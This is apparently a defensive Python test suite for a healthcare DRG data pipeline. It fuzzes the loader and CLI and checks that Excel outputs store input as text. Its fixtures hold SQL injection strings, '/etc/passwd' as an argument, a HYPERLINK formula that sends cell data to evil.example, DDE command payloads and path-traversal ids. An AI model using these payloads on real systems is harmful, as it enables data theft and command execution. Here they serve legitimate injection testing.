"""Hostile input: SQL fragments, quotes, long strings, control characters and odd Unicode load as text
and come out unchanged; the CLI never answers odd arguments with a stack trace."""
from __future__ import annotations

import csv
import io
import re
import shutil
import uuid
import zipfile
from contextlib import redirect_stderr, redirect_stdout
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import query
from drgflow import cli, config, contract, db, excel, loader, quality
from drgflow.reports import statements

# any Unicode text PostgreSQL can store (no NUL, no lone surrogates), with SQL and CSV trouble mixed in
nasty = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60),
    st.sampled_from(["'; drop table raw.cases; --", "\\.", '"', '""', "a,b", "\r\n", "\\N", "NULL",
                     "$$; select pg_sleep(10); $$", "%s %(x)s {0}", "\u202e\u200b\ufeff", "𠀀𝔘", "x" * 10000]),
)
FIELDS = ("case_id", "dept_code", "dx_codes", "px_codes", "total_cost", "admit_date", "insurance_type")


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.lists(st.fixed_dictionaries({f: nasty for f in FIELDS}), min_size=1, max_size=4))
def test_any_text_loads_and_comes_back_unchanged(values, fresh_url, tmp_path):
    path = tmp_path / f"fuzz_{uuid.uuid4().hex}.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        # CRLF line ends make the writer quote any field holding a CR or LF, as RFC 4180 requires
        w = csv.writer(handle, lineterminator="\r\n")
        w.writerow(contract.CASE_COLUMNS)
        for v in values:
            w.writerow([v.get(c, "x") for c in contract.CASE_COLUMNS])
    res = loader.load_file(path, fresh_url, progress=False)
    assert res.rows_read == len(values)
    rows = query(fresh_url, f"select {', '.join(FIELDS)} from raw.cases where batch_id = %s order by source_row",
                 (res.batch_id,))
    for got, want in zip(rows, values, strict=True):
        # CSV cannot tell an empty field from a missing one: both arrive as NULL
        assert [g if g is not None else "" for g in got] == [want[f] for f in FIELDS]


@settings(max_examples=60, deadline=None)
@given(args=st.lists(st.one_of(nasty, st.sampled_from(["--no-validate", "--help", "-x", "/", "/etc/passwd",
                                                       "."])), max_size=4))
def test_cli_never_answers_with_a_traceback(args):
    out, err = io.StringIO(), io.StringIO()
    argv = ["load", *args]
    with redirect_stdout(out), redirect_stderr(err):
        try:
            code = cli.main(argv)
        except SystemExit as exc:  # argparse's usage errors and --help
            code = exc.code
    assert code in (0, 1, 2, None), (argv, err.getvalue())
    assert "Traceback" not in err.getvalue()


@pytest.mark.parametrize("argv", [
    ["generate", "--out", "{tmp}", "--years", "2024-2020"],
    ["generate", "--out", "{tmp}", "--defect-rate", "2"],
    ["generate", "--out", "{tmp}", "--hospitals", "1"],
    ["generate", "--out", "{tmp}", "--years", "x"],
    ["db", "explode"],
    ["db", "backup"],
    ["generate", "--out", "{tmp}", "--cases-per-year", "-5"],
    ["generate", "--out", "{tmp}", "--cases-per-year", "0"],
    ["generate", "--out", "{tmp}", "--seed", "-1"],
])
def test_bad_arguments_get_a_message_not_a_traceback(argv, tmp_path, capsys):
    argv = [a.replace("{tmp}", str(tmp_path)) for a in argv]
    try:
        code = cli.main(argv)
    except SystemExit as exc:
        code = exc.code
    captured = capsys.readouterr()
    assert code not in (0, None), argv
    assert "Traceback" not in captured.err and captured.err.strip()


# ------------------------------------------------------------------------------ Excel: data stays data (#4)

#: input text a spreadsheet would run as a formula (or read as an error value) if written as typed
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+SUM(1,2)", "-2+3", "@SUM(A1)",
            "\t=cmd|' /C calc'!A0", "\r=1", "#N/A", "bell\x07"]


def _assert_text_only(path, expected: list[str]) -> None:
    """Every string cell of the workbook is a string cell (data_type 's', no <f> formula element anywhere),
    and each `expected` text is there, as text (control characters shown as \\xNN; XML reads a CR as LF)."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, (path.name, name)
    wb = load_workbook(path)
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value, cell.data_type)
                    texts.add(cell.value)
    for text in expected:
        shown = text.replace("\x07", "\\x07").replace("\r", "\n")
        assert shown in texts or any(shown in t for t in texts), (path.name, text)


def _statement(hospital_id: str, name: str, case_ids: list[str]) -> dict:
    """A monthly statement's data as statements.statement_data returns it (values from input where they are)."""
    zero = Decimal("0.00")
    summary = [{"region_code": "+330102", "case_count": len(case_ids), "total_points": Decimal("100.0000"),
                "point_value": Decimal("10.000000"), "total_cost": Decimal("1000.00"), "personal_paid": zero,
                "fund_paid": Decimal("800.00"), "prepay_ratio": Decimal("0.9000"), "prepayment": Decimal("900.00"),
                "scheme_version": "=SCHEME"}]
    cases = [{"case_id": c, "region_code": "+330102", "period": "2024-03", "mdc": "=M", "adrg": "-A", "drg": "@D",
              "group_status": "入组", "cc_level": "+cc", "case_type": "正常", "los_days": 3,
              "total_cost": Decimal("1000.00"), "personal_paid": zero, "fund_paid": Decimal("800.00"),
              "base_points": Decimal("100.0000"), "coefficient": Decimal("1.0000"), "mean_cost": zero,
              "all_mean_cost": zero, "cost_ratio": zero, "high_ratio_multiple": None,
              "bed_day_category": "=bed", "per_diem": None, "special_review_points": None,
              "points": Decimal("100.0000")} for c in case_ids]
    rejected = [{"batch_id": 1, "file_name": "=file.csv", "source_row": 2, "case_id": c, "settle_date": "-2024",
                 "rule": "invalid_amount", "message": "@bad " + c, "resolved": "否 no", "resolved_by_batch": None,
                 "loaded_at": "2024-04-01 00:00"} for c in case_ids]
    total = {"region_code": "合计 total", "case_count": len(case_ids), "total_points": Decimal("100.0000"),
             "total_cost": Decimal("1000.00"), "personal_paid": zero, "fund_paid": Decimal("800.00"),
             "prepayment": Decimal("900.00")}
    return {"hospital_id": hospital_id, "hospital": {"hospital_name": name, "level": "-3"}, "period": "2024-03",
            "year": 2024, "monthly": True, "summary": summary, "total": total,
            "by_type": [{"region_code": "+330102", "case_type_zh": "=正常", "cases": len(case_ids),
                         "points": Decimal("100.0000"), "total_cost": Decimal("1000.00")}],
            "type_total": {"region_code": "合计 total", "case_type_zh": "", "cases": len(case_ids),
                           "points": Decimal("100.0000"), "total_cost": Decimal("1000.00")},
            "cases": cases, "rejected": rejected, "scheme_version": "=SCHEME"}


def test_statement_workbook_writes_input_text_as_text(tmp_path):
    d = _statement("=H1", "=HYPERLINK(\"http://evil.example\",\"医院\")", FORMULAS)
    path = statements.write_workbook(d, tmp_path / "statement.xlsx")
    _assert_text_only(path, [*FORMULAS, "=H1", d["hospital"]["hospital_name"], "-3", "=file.csv", "+330102"])
    # the numbers stay numbers
    wb = load_workbook(path)
    cases = wb["病例明细 Cases"]
    assert cases.cell(row=2, column=11).data_type == "n" and cases.cell(row=2, column=11).value == 1000
    # and a formula-like text keeps Excel's quote prefix, so editing the cell does not turn it into a formula
    first = cases.cell(row=2, column=1)
    assert first.value == FORMULAS[0] and first.quotePrefix


@pytest.fixture
def gx_cleanup(fresh_url):
    """Remove the Data Docs site validation writes for the per-test database."""
    yield
    shutil.rmtree(config.home() / "gx" / db.conn_params(fresh_url)["dbname"], ignore_errors=True)


def test_feedback_workbook_writes_input_text_as_text(fresh_url, gx_cleanup, tmp_path):
    """Rows rejected for a bad amount, with formula-like case ids and hospital id: the feedback file for the
    hospital lists them as text."""
    hospital = "=HOSP|' /C calc'!A0"
    rows = [dict(dict.fromkeys(contract.CASE_COLUMNS, "x"), case_id=c, hospital_id=hospital, total_cost="=1+1")
            for c in FORMULAS if "\x07" not in c]
    path = tmp_path / "=evil.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        w = csv.DictWriter(handle, fieldnames=contract.CASE_COLUMNS, lineterminator="\r\n")
        w.writeheader()
        w.writerows(rows)
    res = loader.load_paths([path], fresh_url, progress=False)[0]
    assert res.rows_quarantined == len(rows)
    files = quality.write_feedback(tmp_path / "feedback", fresh_url)
    assert len(files) == 1
    _assert_text_only(files[0], [r["case_id"] for r in rows] + ["=evil.csv"])
    assert hospital in load_workbook(files[0])["退回病例"]["A1"].value


def test_a_binary_file_named_csv_gets_one_sentence(fresh_url, use_database, tmp_path, capsys):
    """A binary file whose first line is not text in any accepted encoding: a message naming it, no traceback."""
    use_database(fresh_url)
    f = tmp_path / "photo.csv"
    f.write_bytes(b"\x89PNG\xff\xfe\x00\x01\n" + bytes(range(256)) * 8)
    code = cli.main(["load", str(f)])
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err
    assert err.startswith("drgflow: error: photo.csv: line 1: ") and len(err.strip().splitlines()) == 1


def test_file_names_of_two_hospitals_never_collide():
    """Hospital ids that a plain sanitiser would merge (`=X` and `X`, `HX-1` and `HX_1`, `hx.1`) get different
    statement and feedback file names; a plain id keeps its own name."""
    ids = ["X", "=X", "X=", "HX-1", "HX_1", "hx.1", "HX 1", "医院1", "医院2", "../H1", "H1"]
    names = [excel.safe_file_name(i) for i in ids]
    assert len(set(names)) == len(ids)
    assert excel.safe_file_name("H001") == "H001"
    assert all(re.fullmatch(r"[A-Za-z0-9_.-]+", n) and not n.startswith(".") for n in names)
